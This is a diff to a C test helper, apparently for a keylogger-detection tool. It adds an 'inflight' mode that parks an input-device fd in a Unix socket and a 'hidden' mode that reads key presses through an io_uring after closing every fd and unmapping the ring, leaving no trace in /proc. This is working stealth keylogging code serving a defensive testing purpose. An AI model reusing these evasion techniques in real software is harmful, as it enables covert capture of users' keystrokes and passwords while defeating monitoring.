@@ -20,6 +20,16 @@
  *       opens NODE as UID and hands the fd (SCM_RIGHTS) to a process of
  *       TOUID (no supplementary group: no right of its own to NODE),
  *       which reads as above; the opener exits.
+ *   xdt-scope-keylog inflight TAG UID NODE TOUID
+ *       as handed, but the process of TOUID takes the fd off its socket
+ *       only once it gets SIGUSR1: until then the file is in flight, in
+ *       no process's fd table.
+ *   xdt-scope-keylog hidden TAG UID NODE
+ *       as UID, keeps NODE only in an io_uring that no read of /proc
+ *       shows: HIDDEN_READS reads of one event each queued on it, the
+ *       ring's fd registered in the ring and closed, its mappings
+ *       unmapped, NODE's fd closed. The reads complete into its own
+ *       memory, which it watches: "key CODE" per key press.
  *   xdt-scope-keylog fat TAG UID N
  *       opens /dev/null N times, then runs as UID holding no device
  *       (a browser or a build with many fds).
@@ -158,6 +168,63 @@ static void read_keys_ring(struct kring *k) {
         }
 }
 
+/* The "hidden" holder: FD's reads queued in a ring that leaves no trace in
+ * /proc, then watched for in its own memory. */
+#define HIDDEN_READS 96
+static void read_keys_hidden(int fd) {
+        static struct input_event ev[HIDDEN_READS];
+        struct io_uring_params p = { 0 };
+        struct io_uring_rsrc_update self = { .offset = UINT32_MAX };
+        struct xdt_ring r;
+        bool seen[HIDDEN_READS] = { false };
+        int ring = (int) syscall(SYS_io_uring_setup, 128, &p);
+
+        if (ring < 0 || syscall(SYS_io_uring_register, ring, IORING_REGISTER_FILES, &fd, 1) < 0)
+                die("io_uring");
+        int e = xdt_ring_map(ring, &p, &r);
+        if (e < 0) {
+                errno = -e;
+                die("mmap of the ring");
+        }
+        for (unsigned i = 0; i < HIDDEN_READS; i++) {
+                struct io_uring_sqe *q = &r.sqes[i];
+                memset(q, 0, sizeof *q);
+                q->opcode = IORING_OP_READ;
+                q->flags = IOSQE_FIXED_FILE;
+                q->addr = (unsigned long) &ev[i];
+                q->len = sizeof ev[i];
+                q->off = (unsigned long long) -1;
+                r.sq_array[i] = i;
+        }
+        __atomic_store_n(r.sq_tail, HIDDEN_READS, __ATOMIC_RELEASE);
+        self.data = (uint64_t) ring;
+        if (syscall(SYS_io_uring_register, ring, IORING_REGISTER_RING_FDS, &self, 1) != 1)
+                die("IORING_REGISTER_RING_FDS");
+        if (syscall(SYS_io_uring_enter, self.offset, HIDDEN_READS, 0, IORING_ENTER_REGISTERED_RING,
+                    NULL, 0) != HIDDEN_READS)
+                die("io_uring_enter");
+        /* nothing left of it: no fd of the ring or of NODE, no mapping */
+        size_t sq = p.sq_off.array + p.sq_entries * sizeof(unsigned);
+        size_t cq = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
+        (void) munmap((char *) r.sq_tail - p.sq_off.tail, sq > cq ? sq : cq);
+        if (!(p.features & IORING_FEAT_SINGLE_MMAP))
+                (void) munmap((char *) r.cq_tail - p.cq_off.tail, cq);
+        (void) munmap(r.sqes, p.sq_entries * sizeof *r.sqes);
+        (void) close(ring);
+        (void) close(fd);
+        say("ready pid=%ld uid=%u", (long) getpid(), (unsigned) getuid());
+        for (;;) {
+                for (unsigned i = 0; i < HIDDEN_READS; i++) {
+                        if (seen[i] || __atomic_load_n(&ev[i].type, __ATOMIC_ACQUIRE) == 0)
+                                continue;
+                        seen[i] = true;
+                        if (ev[i].type == EV_KEY && ev[i].value == 1)
+                                say("key %u", (unsigned) ev[i].code);
+                }
+                (void) usleep(5000);
+        }
+}
+
 static int clone_parent(void) {
         fflush(stdout);
         return (int) syscall(SYS_clone, CLONE_PARENT | SIGCHLD, NULL, NULL, NULL, 0);
@@ -182,6 +249,13 @@ int main(int argc, char **argv) {
                 say("ready pid=%ld uid=%u", (long) getpid(), (unsigned) getuid());
                 for (;;)
                         pause();
+        }
+        if (strcmp(argv[1], "hidden") == 0) {
+                become(uid);
+                int fd = open(argv[4], O_RDONLY | O_CLOEXEC);
+                if (fd < 0)
+                        die("open");
+                read_keys_hidden(fd);
         }
         if (strcmp(argv[1], "clone-parent") == 0) {
                 become(uid);
@@ -235,7 +309,8 @@ int main(int argc, char **argv) {
                         die("go");
                 return 0;
         }
-        if (strcmp(argv[1], "handed") == 0 && argc >= 6) {
+        bool inflight = strcmp(argv[1], "inflight") == 0;
+        if ((inflight || strcmp(argv[1], "handed") == 0) && argc >= 6) {
                 uid_t to = (uid_t) strtoul(argv[5], NULL, 10);
                 int sv[2];
                 if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv) < 0)
@@ -253,6 +328,17 @@ int main(int argc, char **argv) {
                 if (pid == 0) {
                         close(sv[0]);
                         become(to);
+                        if (inflight) {
+                                sigset_t usr1;
+                                int sig;
+                                sigemptyset(&usr1);
+                                sigaddset(&usr1, SIGUSR1);
+                                (void) sigprocmask(SIG_BLOCK, &usr1, NULL);
+                                say("ready pid=%ld uid=%u (the fd in flight)", (long) getpid(),
+                                    (unsigned) getuid());
+                                (void) sigwait(&usr1, &sig);
+                                say("receiving");
+                        }
                         if (recvmsg(sv[1], &msg, MSG_CMSG_CLOEXEC) != 1)
                                 die("recvmsg");
                         struct cmsghdr *cm = CMSG_FIRSTHDR(&msg);
